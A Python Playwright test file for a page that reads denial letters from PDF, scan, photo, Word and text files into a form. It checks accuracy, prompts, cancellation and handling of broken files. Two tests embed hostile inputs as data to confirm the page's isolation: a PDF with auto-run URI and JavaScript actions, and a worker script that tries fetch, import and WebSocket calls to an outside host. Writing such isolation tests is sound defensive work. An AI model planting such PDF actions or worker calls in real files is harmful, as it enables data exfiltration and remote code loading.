"""The letter as a file: PDF, scan, photo, Word, text, dropped, pasted. Papers are made here, none is kept."""

from __future__ import annotations

import base64
import io
import os
import random
import re
import time
from difflib import SequenceMatcher

import docx
import pytest

from tests.papers import as_bytes, draw_pages, photograph, printed_pdf, scan, scanned_pdf
from tests.reading.fuzz_files import Broken
from tests.scenarios import scenario_named
from tests.web.conftest import open_letter_page

LETTER = scenario_named("three_reasons_rheumatoid").denial
BOX = "[name=denial_text]"
SECONDS = 120
MINUTES = 120_000


def give(page, name, content, *, to="#paper-files"):
    page.set_input_files(to, [{"name": name, "mimeType": "", "buffer": content}])


def agree(page):
    page.wait_for_selector("#paper-yes", state="visible")
    page.click("#paper-yes")


def until(page, is_so, seconds=SECONDS):
    """Wait until it is so. The page's policy forbids Playwright's own waiting for a line of script."""
    for _ in range(seconds * 10):
        if is_so():
            return
        page.wait_for_timeout(100)
    raise AssertionError(page.inner_text("[data-page=paste]")[:2000])


def read_text(page):
    """The text in the box, when reading is over."""
    until(page, lambda: page.input_value(BOX) and page.locator("#paper-busy").is_hidden())
    return page.input_value(BOX)


def alike(text, truth=LETTER):
    return SequenceMatcher(None, "".join(truth.split()), "".join(text.split()), autojunk=False).ratio()


@pytest.fixture
def paste(new_page, address):
    def make(**options):
        page = open_letter_page(new_page(**options), address, at="page=paste")
        page.requested = []
        page.on("request", lambda request: page.requested.append(request.url))
        return page

    return make


def test_a_pdf_with_text(paste):
    page = paste()
    assert not [url for url in page.requested if "papers" in url], "nothing is loaded before a file is given"
    give(page, "letter.pdf", printed_pdf(LETTER, header="Hawkeye Commons Mutual   Member No.: 70 4418 2296"))
    text = read_text(page)
    assert alike(text) > 0.95
    assert "Member No.: 70 4418 2296" in text
    assert not [url for url in page.requested if "pictures.pack" in url], "a PDF with text needs no reader of pictures"
    page.wait_for_selector("#findings .finding")


def test_the_size_is_said_beside_the_buttons_and_a_file_given_is_the_yes(paste):
    page = paste()
    assert re.search(
        r"To read a photo, this page loads 1\d\.\d MB, once; for a PDF 0\.\d MB", page.text_content("#paper-sizes")
    )
    page.wait_for_timeout(300)
    assert not [url for url in page.requested if "/papers" in url]
    give(page, "letter.pdf", printed_pdf(LETTER))
    read_text(page)
    assert page.locator("#paper-ask").is_hidden()
    assert not [url for url in page.requested if "pictures.pack" in url], "a reader of pictures is for pictures"


def test_a_pdf_that_is_a_scan_is_asked_about(paste):
    page = paste()
    give(page, "scan.pdf", scanned_pdf([scan(draw_pages("A few words only.")[0])]))
    page.wait_for_selector("#paper-yes", state="visible")
    assert re.search(r"loads 1\d\.\d MB, once", page.text_content("#paper-yes"))
    page.click("#paper-no")
    page.wait_for_timeout(300)
    assert not [url for url in page.requested if "pictures.pack" in url]


@pytest.mark.long
def test_a_photo_of_a_folded_letter_on_a_phone_in_twelve_taps(paste):
    """Counted from the page: the camera, its shutter and its "use" (two taps of the phone's own), use all."""
    page = paste(width=360, has_touch=True)
    taps = 3
    give(page, "photo.jpg", as_bytes(photograph(draw_pages(LETTER)[0]), quality=80), to="#paper-camera")
    assert alike(read_text(page)) > 0.99
    page.wait_for_selector("#findings .finding")
    page.tap("#findings .use")
    taps += 1
    assert taps <= 12
    assert page.locator("#paper-pages canvas").count() == 1
    until(page, lambda: page.input_value("[name=member_id]") == "70 4418 2296", 5)
    for name, value in {"notice_date": "11/12/2026", "hcpcs": "J3262", "icd10": "M05.79"}.items():
        found = page.input_value(f"[name={name}]")
        assert found in (value, "2026-11-12"), (name, found)


@pytest.mark.long
def test_a_scan_in_a_pdf_on_its_side_and_a_page_with_text(paste):
    """A scan of two pages, one of them on its side: the reader is asked for when it is known that pages are pictures."""
    pages = draw_pages(LETTER, lines_a_page=26)
    page = paste()
    give(page, "scan.pdf", scanned_pdf([scan(pages[0]), scan(pages[1]).rotate(90, expand=True)]))
    page.wait_for_selector("#paper-why:has-text('2 pages are pictures')")
    agree(page)
    text = read_text(page)
    assert alike(text) > 0.98
    assert page.locator("#paper-pages figure").count() == 2


def test_word_and_text_need_no_reader(paste):
    page = paste()
    document = docx.Document()
    for line in LETTER.split("\n"):
        document.add_paragraph(line)
    made = io.BytesIO()
    document.save(made)
    page.set_input_files(
        "#paper-files",
        [
            {"name": "letter.docx", "mimeType": "", "buffer": made.getvalue()},
            {"name": "page2.txt", "mimeType": "", "buffer": "Página dos: señal".encode("utf-16")},
        ],
    )
    text = read_text(page)
    assert alike(text) > 0.98
    assert text.endswith("Página dos: señal")
    assert not [url for url in page.requested if "/papers" in url]


@pytest.mark.long
def test_what_cannot_be_read_is_said_and_its_picture_stays(paste):
    page = paste()
    dice = random.Random(3)
    from PIL import Image

    grain = Image.frombytes("L", (900, 1100), dice.randbytes(900 * 1100))
    give(page, "dark.png", as_bytes(grain, "PNG"))
    page.wait_for_selector("#paper-pages .unread", timeout=MINUTES)
    said = page.text_content("#paper-pages .unread")
    assert "dark.png" in said
    assert said.endswith(".")
    assert page.locator("#paper-pages .is-large canvas").is_visible()
    assert page.input_value(BOX) == ""
    give(page, "broken.pdf", b"%PDF-1.7\nthis is no PDF")
    page.wait_for_selector("#paper-pages .unread:has-text('broken.pdf')")
    assert "cannot be opened" in page.text_content("#paper-pages .unread:has-text('broken.pdf')")


@pytest.mark.long
def test_reading_can_be_stopped(paste):
    page = paste()
    give(page, "photo.jpg", as_bytes(photograph(draw_pages(LETTER)[0])))
    page.wait_for_selector("#paper-says:has-text('Reading photo.jpg')", timeout=MINUTES)
    page.click("#paper-cancel")
    page.wait_for_selector("#paper-busy", state="hidden", timeout=2000)
    assert page.input_value(BOX) == ""
    give(page, "letter.txt", b"After it was stopped, another file is read.")
    assert read_text(page) == "After it was stopped, another file is read."


DROP = """([name, type, content, kind]) => {
  const files = new DataTransfer();
  files.items.add(new File([Uint8Array.from(atob(content), (letter) => letter.charCodeAt(0))], name, { type }));
  const event = kind === 'drop' ? new DragEvent('drop', { dataTransfer: files, bubbles: true, cancelable: true })
    : new ClipboardEvent('paste', { clipboardData: files, bubbles: true, cancelable: true });
  document.body.dispatchEvent(event);
  return event.defaultPrevented;
}"""


@pytest.mark.parametrize("kind", ["drop", "paste"])
def test_a_file_dropped_or_a_picture_pasted(paste, kind):
    page = paste()
    content = printed_pdf(LETTER)
    assert page.evaluate(DROP, ["letter.pdf", "application/pdf", base64.b64encode(content).decode(), kind])
    assert alike(read_text(page)) > 0.95


def test_nothing_of_a_file_leaves_and_nothing_comes_from_elsewhere(paste, address, elsewhere):
    """A PDF full of links, actions and script: none is followed. The reader's worker keeps the page's policy."""
    page = paste()
    tricky = printed_pdf(LETTER).replace(
        b"/Type /Catalog",
        b"/Type /Catalog /OpenAction << /S /URI /URI (http://%s/pdf) >> /AA << /WC << /S /JavaScript /JS "
        b"(app.launchURL\\('http://%s/js'\\)) >> >>" % ((elsewhere.origin.encode(),) * 2),
    )
    give(page, "letter.pdf", tricky)
    read_text(page)
    origin = address.split("/infusion")[0]
    assert not [url for url in page.requested if not url.startswith((origin, "blob:", "data:"))]
    assert elsewhere.calls == []
    stored = page.evaluate(
        "JSON.stringify([{ ...localStorage }, { ...sessionStorage }, location.href, document.title])"
    )
    assert "letter.pdf" not in stored
    assert "Kowalczyk" not in stored


@pytest.mark.long
def test_broken_files_get_text_or_a_sentence_each(paste):
    """As many as BROKEN says (make fuzz-files: 500). None crashes the page or the reader. None takes over ten seconds,
    once the reader is loaded; that is asked on a machine that does nothing else, in the long run only."""
    page = paste()
    give(page, "good.png", as_bytes(draw_pages("Date: November 2, 2026")[0].crop((0, 0, 900, 300)), "PNG"))
    read_text(page)
    slowest, told = 0.0, 0
    for name, content in Broken(seed=7, count=int(os.environ.get("BROKEN", 20))):
        page.evaluate(
            "document.getElementById('paper-pages').replaceChildren(); document.querySelector('[name=denial_text]').value = ''"
        )
        start = time.monotonic()
        give(page, f"{name}.bin", content)
        until(page, lambda: page.locator("#paper-ask").is_visible() or page.locator("#paper-busy").is_hidden())
        while page.locator("#paper-ask").is_visible():  # first the PDF's reader, then that of pictures
            page.click("#paper-yes")
            start = time.monotonic()
            until(page, lambda: page.locator("#paper-ask").is_visible() or page.locator("#paper-busy").is_hidden())
        took = time.monotonic() - start
        says = page.locator("#paper-pages .unread").all_text_contents()
        told += bool(says)
        assert page.input_value(BOX) or says, name
        assert all(text.endswith(".") for text in says), (name, says)
        slowest = max(slowest, took)
    print(f"\nbroken files in the browser: {told} told in a sentence, slowest {slowest:.1f} s")
    assert slowest < 10 or "BROKEN" not in os.environ


HOSTILE = """async ([other]) => {
  const script = document.querySelector('script[src*="start.mjs"]').src;
  const reader = new URL('papers/worker.mjs', script).href;
  const { startWorker } = await import(script.replace('start.mjs', 'engine.mjs'));
  const { worker } = startWorker(`
    await import(${JSON.stringify(reader)});
    const tries = [fetch('http://${other}/reader', { mode: 'no-cors' }), import('http://${other}/reader.mjs')];
    try { new WebSocket('ws://${other}/reader-socket'); } catch { /* refused */ }
    try { new Worker(${JSON.stringify(reader)}, { type: 'module' }); } catch { /* refused */ }
    await Promise.allSettled(tries);
    postMessage('tried');`);
  await new Promise((done) => { worker.onmessage = done; });
  await new Promise((done) => setTimeout(done, 500));
}"""


def test_a_hostile_reader_cannot_send_anything(paste, elsewhere):
    page = paste()
    page.evaluate(HOSTILE, [elsewhere.origin])
    assert elsewhere.calls == []
